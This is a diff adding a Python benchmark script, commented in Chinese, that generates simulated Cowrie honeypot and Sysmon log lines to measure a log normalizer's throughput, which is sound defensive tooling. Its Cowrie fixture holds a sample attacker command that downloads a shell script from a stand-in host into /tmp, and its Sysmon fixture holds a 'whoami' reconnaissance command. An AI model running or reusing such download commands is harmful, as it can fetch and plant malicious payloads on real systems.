@@ -0,0 +1,99 @@
+#!/usr/bin/env python3
+"""
+日志清洗性能基准
+生成Cowrie/Sysmon格式的模拟日志，测量单核清洗吞吐（目标 ≥ 50k 行/秒）
+
+用法: python benchmarks/bench_log_normalizer.py [--lines 200000]
+"""
+
+import argparse
+import json
+import random
+import sys
+import time
+from pathlib import Path
+
+# 添加项目根目录到Python路径
+project_root = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(project_root))
+
+from app.services.log_service import LogNormalizer
+
+COWRIE_EVENTS = [
+    "cowrie.session.connect",
+    "cowrie.login.failed",
+    "cowrie.login.failed",
+    "cowrie.login.failed",
+    "cowrie.login.success",
+    "cowrie.command.input",
+]
+
+def generate_cowrie_lines(count: int, seed: int = 1) -> list:
+    """生成Cowrie格式的JSON行"""
+    rng = random.Random(seed)
+    attackers = [f"45.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}" for _ in range(500)]
+    lines = []
+    for i in range(count):
+        record = {
+            "eventid": rng.choice(COWRIE_EVENTS),
+            "timestamp": f"2024-05-01T{i % 24:02d}:{i % 60:02d}:{(i * 7) % 60:02d}.{i % 1000000:06d}Z",
+            "src_ip": rng.choice(attackers),
+            "src_port": rng.randint(1024, 65535),
+            "dst_ip": "10.0.0.5",
+            "dst_port": 22,
+            "session": f"{i:012x}",
+            "sensor": "hp-ssh-01",
+            "message": "login attempt [root/123456] failed",
+        }
+        if record["eventid"] == "cowrie.command.input":
+            record["input"] = "wget http://198.51.100.7/x.sh -O /tmp/x.sh"
+        lines.append(json.dumps(record))
+    return lines
+
+def generate_sysmon_lines(count: int, seed: int = 2) -> list:
+    """生成Sysmon格式的JSON行"""
+    rng = random.Random(seed)
+    images = [
+        "C:\\Windows\\System32\\cmd.exe",
+        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        "C:\\Program Files\\Common Files\\updater.exe",
+    ]
+    lines = []
+    for i in range(count):
+        lines.append(json.dumps({
+            "EventID": rng.choice([1, 1, 3, 11, 13]),
+            "UtcTime": f"2024-05-01 {i % 24:02d}:{i % 60:02d}:00.{i % 1000:03d}",
+            "Image": rng.choice(images),
+            "CommandLine": "cmd.exe /c whoami",
+            "SourceIp": "10.0.0.8",
+            "DestinationIp": f"203.0.113.{i % 200}",
+            "DestinationPort": 443,
+            "Protocol": "tcp",
+        }))
+    return lines
+
+def run(name: str, normalizer: LogNormalizer, source: str, lines: list, batch_size: int) -> None:
+    """按批清洗并输出吞吐"""
+    started = time.perf_counter()
+    accepted = rejected = 0
+    for offset in range(0, len(lines), batch_size):
+        batch = normalizer.normalize_batch(source, lines[offset:offset + batch_size], asset_id=1)
+        accepted += len(batch.events)
+        rejected += batch.rejected
+    elapsed = time.perf_counter() - started
+    print(f"{name:<8} {len(lines):>8} 行  {elapsed:7.3f}s  {len(lines) / elapsed:>10,.0f} 行/秒  "
+          f"有效 {accepted}  丢弃 {rejected}")
+
+def main():
+    """主函数"""
+    parser = argparse.ArgumentParser(description="日志清洗性能基准")
+    parser.add_argument("--lines", type=int, default=200000, help="每种来源的行数")
+    parser.add_argument("--batch-size", type=int, default=1000, help="每批行数")
+    args = parser.parse_args()
+
+    normalizer = LogNormalizer()
+    run("cowrie", normalizer, "cowrie", generate_cowrie_lines(args.lines), args.batch_size)
+    run("sysmon", normalizer, "sysmon", generate_sysmon_lines(args.lines), args.batch_size)
+
+if __name__ == "__main__":
+    main()